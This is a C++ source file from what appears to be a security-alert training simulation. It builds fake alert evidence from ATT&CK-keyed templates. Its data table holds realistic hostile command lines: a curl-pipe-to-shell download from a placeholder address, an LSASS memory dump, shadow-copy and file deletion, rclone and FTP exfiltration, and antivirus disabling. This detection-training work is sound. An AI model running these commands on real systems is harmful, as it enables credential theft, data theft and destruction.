// evidence.cpp: the fields a tool shows about an alert (evidence.h). The artifacts are those the
// techniques leave in the field (a comsvcs.dll MiniDump of LSASS, vssadmin deleting shadow copies,
// rclone to cloud storage); which of them a tool shows follows the ATT&CK data component it saw.
#include "attack/evidence.h"
#include "world/attack_catalog.h"

#include <algorithm>
#include <cstdio>
#include <cstring>
#include <string>
#include <string_view>

namespace bd {

namespace {

// [SECTION] What a technique leaves behind

// Placeholders: {user} the account, {host} the host, {c2} the C2 channel in use, {r} 8 hex digits,
// {n} a number, {ip} a documentation address (RFC 5737), {target} where a move went.
struct Artifact {
    const char* technique;
    const char* process;
    const char* parent;
    const char* command_line;
    const char* file;
    const char* detail;
};

const Artifact kArtifacts[] = {
    {"T1566.001", "WINWORD.EXE", "OUTLOOK.EXE",
     "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{r}\\Invoice_{n}.docm\"",
     "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{r}\\Invoice_{n}.docm", "attachment from an external sender, macros enabled"},
    {"T1566.002", "msedge.exe", "OUTLOOK.EXE", "msedge.exe --single-argument https://docs-share-{r}.com/view?id={n}", "",
     "link in an e-mail from an external sender; the page asks for the Microsoft 365 password"},
    {"T1204.001", "msedge.exe", "OUTLOOK.EXE", "msedge.exe https://files-{r}.com/d/{n}", "C:\\Users\\{user}\\Downloads\\Statement_{n}.zip", ""},
    {"T1204.002", "rundll32.exe", "WINWORD.EXE", "rundll32.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\{r}.dll,DllRegisterServer",
     "C:\\Users\\{user}\\AppData\\Local\\Temp\\{r}.dll", "unsigned DLL started by an Office application"},
    {"T1059.001", "powershell.exe", "cmd.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIA...", "", "encoded command, hidden window"},
    {"T1059.003", "cmd.exe", "rundll32.exe", "cmd.exe /c whoami /all & ipconfig /all & net group \"Domain Admins\" /domain", "", ""},
    {"T1059.004", "/bin/bash", "php-fpm", "bash -c \"curl -s http://{ip}/s.sh | sh\"", "", "shell started by the web server's user"},
    {"T1071.001", "rundll32.exe", "explorer.exe", "", "", "HTTPS to {c2} every 60 s (jitter 10 %), small requests, no browser"},
    {"T1071.004", "rundll32.exe", "explorer.exe", "", "", "TXT queries to {r}.{c2}, {n} in the last hour"},
    {"T1003.001", "rundll32.exe", "powershell.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Windows\\Temp\\{r}.dmp full",
     "C:\\Windows\\Temp\\{r}.dmp", "lsass.exe opened with access 0x1010"},
    {"T1003.006", "", "", "", "", "DRSUAPI replication (DsGetNCChanges) requested by {source}, which is not a domain controller"},
    {"T1005", "robocopy.exe", "cmd.exe", "robocopy.exe D:\\Data C:\\ProgramData\\{r} /E /R:0 /NP", "C:\\ProgramData\\{r}", ""},
    {"T1039", "robocopy.exe", "cmd.exe", "robocopy.exe \\\\{host}\\shares C:\\ProgramData\\{r} /E /R:0 /NP", "C:\\ProgramData\\{r}", "{n} files read over SMB in 10 minutes"},
    {"T1074.001", "cmd.exe", "rundll32.exe", "cmd.exe /c move D:\\Data\\*.csv C:\\ProgramData\\{r}\\", "C:\\ProgramData\\{r}\\", "{n} MB written to one folder"},
    {"T1560.001", "7z.exe", "cmd.exe", "7z.exe a -mx3 -p C:\\ProgramData\\{r}.7z C:\\ProgramData\\{r}\\*", "C:\\ProgramData\\{r}.7z", ""},
    {"T1041", "rundll32.exe", "explorer.exe", "", "", "{n} MB out to {c2} in 20 minutes, over the C2 channel"},
    {"T1567.002", "rclone.exe", "cmd.exe", "rclone.exe copy C:\\ProgramData\\{r} remote:backup --transfers 8 -q", "C:\\ProgramData\\{r}",
     "{n} MB to cloud storage"},
    {"T1048.003", "ftp.exe", "cmd.exe", "ftp.exe -s:C:\\ProgramData\\{r}.txt {ip}", "", "{n} MB out over FTP"},
    {"T1021.001", "mstsc.exe", "explorer.exe", "mstsc.exe /v:{target}", "", "logon type 10 (RemoteInteractive) on {target} from {source}"},
    {"T1021.002", "PSEXESVC.exe", "services.exe", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe",
     "logon type 3 (network) on {target} from {source}; ADMIN$ written"},
    {"T1550.002", "", "", "", "", "logon type 3 with NTLM on {target} from {source}, no Kerberos ticket before it"},
    {"T1053.005", "schtasks.exe", "cmd.exe",
     "schtasks.exe /create /tn \"\\Microsoft\\Windows\\UpdateOrchestrator\\Refresh{n}\" /tr C:\\ProgramData\\{r}.exe /sc onlogon /ru SYSTEM", "", ""},
    {"T1547.001", "reg.exe", "cmd.exe",
     "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync /d C:\\Users\\{user}\\AppData\\Roaming\\{r}.exe /f",
     "C:\\Users\\{user}\\AppData\\Roaming\\{r}.exe", ""},
    {"T1543.003", "sc.exe", "cmd.exe", "sc.exe create Svc{n} binPath= C:\\Windows\\{r}.exe start= auto", "C:\\Windows\\{r}.exe", ""},
    {"T1136.002", "net.exe", "cmd.exe", "net.exe user svc_backup{n} * /add /domain", "", "account created outside the identity process"},
    {"T1078", "", "", "", "", "VPN logon from {ip}, an address this account has not used"},
    {"T1078.004", "", "", "", "", "console sign-in from {ip}, a new country for this account"},
    {"T1133", "", "", "", "", "VPN session from {ip}"},
    {"T1190", "", "", "", "", "POST from {ip}: request body of {n} bytes, answered 200, then a child process of the web server"},
    {"T1210", "", "", "", "", "exploit traffic to SMB on {target} from {source}"},
    {"T1505.003", "cmd.exe", "w3wp.exe", "cmd.exe /c whoami", "C:\\inetpub\\wwwroot\\aspnet_client\\{r}.aspx", "a page written by the web server's own process"},
    {"T1083", "cmd.exe", "rundll32.exe", "cmd.exe /c dir /s /b C:\\Users\\*.xlsx C:\\Users\\*.pdf", "", ""},
    {"T1087.002", "net.exe", "cmd.exe", "net.exe group \"Domain Admins\" /domain", "", ""},
    {"T1018", "nltest.exe", "cmd.exe", "nltest.exe /dclist:", "", ""},
    {"T1098.001", "", "", "", "", "new access key created for {user}"},
    {"T1114.002", "", "", "", "", "MailItemsAccessed x{n} over EWS from {ip}"},
    {"T1137.005", "", "", "", "", "new inbox rule: messages that mention payment go to RSS Feeds, marked read"},
    {"T1213", "", "", "", "", "FileDownloaded x{n} from the document library in 15 minutes"},
    {"T1219", "AnyDesk.exe", "explorer.exe", "\"C:\\Users\\{user}\\Downloads\\AnyDesk.exe\" --silent", "C:\\Users\\{user}\\Downloads\\AnyDesk.exe",
     "remote-access tool not in the software inventory"},
    {"T1485", "cmd.exe", "rundll32.exe", "cmd.exe /c del /s /q D:\\*", "", "{n} files deleted in 5 minutes"},
    {"T1486", "{r}.exe", "cmd.exe", "C:\\ProgramData\\{r}.exe -path D:\\ -nolog", "D:\\Shares\\README-RECOVER.txt",
     "{n} files rewritten and renamed in 3 minutes"},
    {"T1490", "vssadmin.exe", "cmd.exe", "vssadmin.exe delete shadows /all /quiet", "", "backup catalogue deleted"},
    {"T1561.002", "{r}.exe", "cmd.exe", "C:\\ProgramData\\{r}.exe", "", "raw write to \\\\.\\PhysicalDrive0"},
    {"T1530", "", "", "", "", "GetObject x{n} from {ip}"},
    {"T1534", "", "", "", "", "mail from {user} to {n} colleagues with the same link"},
    {"T1537", "", "", "", "", "a snapshot shared with an account outside the organisation"},
    {"T1539", "", "", "", "", "a session token of {user} used from {ip}"},
    {"T1552.001", "findstr.exe", "cmd.exe", "findstr.exe /si password *.xml *.ini *.config", "", ""},
    {"T1558.003", "", "", "", "", "service tickets with RC4 (0x17) for {n} service accounts in a minute, requested by {user}"},
    {"T1562.001", "powershell.exe", "cmd.exe", "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true", "", "antivirus protection switched off"},
    {"T1572", "plink.exe", "cmd.exe", "plink.exe -R 3389:127.0.0.1:3389 -P 443 tunnel@{ip}", "C:\\ProgramData\\plink.exe", ""},
    {"T1619", "", "", "", "", "ListObjects on every bucket of the account from {ip}"},
    {"T1195.002", "VendorAgentUpdate.exe", "services.exe", "\"C:\\Program Files\\Vendor\\Agent\\VendorAgentUpdate.exe\" /silent",
     "C:\\Program Files\\Vendor\\Agent\\{r}.dll", "signed updater wrote a DLL that is not in the vendor's manifest"},
};

// What an ordinary day shows, for false positives: by the kind of telemetry.
const Artifact kOrdinary[] = {
    {"process", "powershell.exe", "CcmExec.exe", "powershell.exe -ExecutionPolicy Bypass -File C:\\Windows\\CCM\\ScriptStore\\{r}.ps1", "", "software inventory script"},
    {"process", "msiexec.exe", "svchost.exe", "msiexec.exe /i C:\\Windows\\ccmcache\\{n}\\Setup.msi /qn", "", "software deployment"},
    {"process", "cmd.exe", "explorer.exe", "cmd.exe /c net use Z: \\\\fs-01\\home", "", "a login script"},
    {"network", "svchost.exe", "services.exe", "", "", "HTTPS to a content delivery network, {n} MB (updates)"},
    {"logon", "", "", "", "", "logon type 3 (network) from the backup server, service account"},
    {"file", "TiWorker.exe", "svchost.exe", "", "C:\\Windows\\SoftwareDistribution\\Download\\{r}", "Windows Update"},
    {"log", "", "", "", "Invoice_{n}.pdf", "message from a known supplier with a PDF attachment, sender authenticated (SPF, DKIM pass)"},
    {"log", "", "", "", "", "newsletter with {n} tracked links, sender on the allow list"},
};

// [SECTION] Filling it in

uint64_t EvidenceMix(uint64_t x)
{
    x += 0x9E3779B97F4A7C15ull;
    x = (x ^ (x >> 30)) * 0xBF58476D1CE4E5B9ull;
    x = (x ^ (x >> 27)) * 0x94D049BB133111EBull;
    return x ^ (x >> 31);
}

// The kind of telemetry a data component is (what fields it has).
const char* EvidenceKindOf(std::string_view dc)
{
    static const char* const kNetwork[] = {"DC0078", "DC0082", "DC0085", "DC0096", "DC0103"};
    static const char* const kLogon[] = {"DC0002", "DC0067", "DC0088", "DC0084", "DC0071", "DC0066", "DC0087", "DC0010", "DC0014", "DC0013"};
    static const char* const kFile[] = {"DC0039", "DC0040", "DC0055", "DC0059", "DC0061", "DC0102"};
    for (const char* d : kNetwork)
        if (dc == d) return "network";
    for (const char* d : kLogon)
        if (dc == d) return "logon";
    for (const char* d : kFile)
        if (dc == d) return "file";
    if (dc == "DC0038") return "log";
    return "process";
}

struct EvidenceWords {
    std::string user, host, c2, r, n, ip, source, target;
};

std::string EvidenceFill(const char* templ, const EvidenceWords& w)
{
    std::string out;
    for (const char* p = templ; *p; ++p) {
        if (*p != '{') { out += *p; continue; }
        const char* end = std::strchr(p, '}');
        if (!end) { out += p; break; }
        const std::string_view key(p + 1, (size_t)(end - p - 1));
        if (key == "user") out += w.user;
        else if (key == "host") out += w.host;
        else if (key == "c2") out += w.c2;
        else if (key == "r") out += w.r;
        else if (key == "n") out += w.n;
        else if (key == "ip") out += w.ip;
        else if (key == "source") out += w.source;
        else if (key == "target") out += w.target;
        else out.append(p, (size_t)(end - p + 1));
        p = end;
    }
    return out;
}

// FNV-1a: the same on every build (std::hash is not promised to be).
uint64_t EvidenceHash(std::string_view s)
{
    uint64_t h = 0xcbf29ce484222325ull;
    for (unsigned char c : s) h = (h ^ c) * 0x100000001b3ull;
    return h;
}

const Artifact* EvidenceArtifactOf(std::string_view technique)
{
    for (const auto& a : kArtifacts)
        if (technique == a.technique) return &a;
    // A sub-technique without its own row takes its parent's ("T1003.002" -> "T1003" if listed).
    const auto dot = technique.find('.');
    if (dot != std::string_view::npos) return EvidenceArtifactOf(technique.substr(0, dot));
    return nullptr;
}

} // namespace

void FillEvidence(const Simulation& sim, Alert& a, uint64_t nth)
{
    const World& w = sim.world();
    if (a.host == kNone || a.host >= (HostId)w.hosts.size() || a.sensor < 0 || a.sensor >= (SensorTypeId)w.sensor_types.size()) return;
    const Host& h = w.hosts[a.host];
    const SensorType& st = w.sensor_types[a.sensor];
    AlertEvidence& e = a.evidence;
    e.source = h.id;
    if (st.symptoms || a.technique.empty()) return; // monitoring: the host and the summary are all it has
    const Technique* t = Catalog().FindTechnique(a.technique);
    if (!t) return;
    // The data component it was seen by: the first the technique and the sensor share.
    std::string dc;
    for (const auto& d : t->data_components)
        if (std::binary_search(st.observes.begin(), st.observes.end(), d)) { dc = d; break; }
    if (!dc.empty()) e.data_component = dc + " " + std::string(Catalog().DataComponentName(dc));
    const char* kind = EvidenceKindOf(dc);

    const uint64_t x = EvidenceMix(sim.options().seed ^ EvidenceMix((uint64_t)sim.Now() * 31 + nth) ^ EvidenceMix(EvidenceHash(a.technique) + (uint64_t)a.host));
    char hex[9];
    std::snprintf(hex, sizeof hex, "%08llx", (unsigned long long)(x & 0xffffffffull));
    EvidenceWords words;
    words.host = h.id;
    words.r = hex;
    words.n = std::to_string(12 + (x >> 32) % 4000);
    words.ip = "203.0.113." + std::to_string(1 + (x >> 44) % 254);
    const AttackerState& at = w.attacker;
    if (h.user != kNone && h.user < (IdentityId)w.identities.size()) words.user = w.identities[h.user].id;
    const auto& c2 = sim.scenario().campaign.c2_indicators;
    words.c2 = at.c2_index < (int)c2.size() ? c2[at.c2_index] : "an unknown domain";
    words.target = h.id;
    words.source = at.current != kNone && at.current < (HostId)w.hosts.size() && at.current != a.host ? w.hosts[at.current].id : h.id;

    const Artifact* art = nullptr;
    if (a.true_positive) {
        art = EvidenceArtifactOf(a.technique);
        // A move or a credential technique uses the account the attacker holds.
        if (!at.credentials.empty() && (std::string_view(kind) == "logon" || t->id.rfind("T1021", 0) == 0 || t->id == "T1550.002"))
            words.user = w.identities[at.credentials.back().identity].id;
    } else {
        size_t count = 0;
        for (const auto& o : kOrdinary)
            if (std::string_view(o.technique) == kind) ++count;
        size_t pick = count ? (size_t)(x % count) : 0;
        for (const auto& o : kOrdinary)
            if (std::string_view(o.technique) == kind && pick-- == 0) { art = &o; break; }
        words.source = h.id;
    }
    if (!art) return;
    e.user = words.user;
    if (std::string_view(kind) == "network") {
        // Out to the C2 channel, or (a move inside) from the foothold to this host.
        const bool to_c2 = a.true_positive && std::string_view(art->detail).find("{c2}") != std::string_view::npos;
        if (to_c2) e.destination = words.c2 + ":443";
        else if (a.true_positive && words.source != h.id) { e.source = words.source; e.destination = h.id; }
        e.detail = EvidenceFill(art->detail, words);
        e.process = EvidenceFill(art->process, words);
        return;
    }
    if (std::string_view(kind) == "log") {
        // An application's log (a mail gateway, a web server): the line it wrote, and the file it
        // names by its name alone.
        const std::string file = EvidenceFill(art->file, words);
        const size_t slash = file.find_last_of('\\');
        e.file = slash == std::string::npos ? file : file.substr(slash + 1);
        e.detail = EvidenceFill(art->detail, words);
        if (std::string_view(art->detail).find("{ip}") != std::string_view::npos) e.source = words.ip;
        return;
    }
    if (std::string_view(kind) == "logon") {
        e.destination = h.id;
        // From the internet (a VPN, a console) or from the host it moved from.
        e.source = std::string_view(art->detail).find("{ip}") != std::string_view::npos ? words.ip : a.true_positive ? words.source : "";
        e.detail = EvidenceFill(art->detail, words);
        return;
    }
    e.process = EvidenceFill(art->process, words);
    e.parent = EvidenceFill(art->parent, words);
    e.command_line = EvidenceFill(art->command_line, words);
    e.file = EvidenceFill(art->file, words);
    e.detail = EvidenceFill(art->detail, words);
}

} // namespace bd
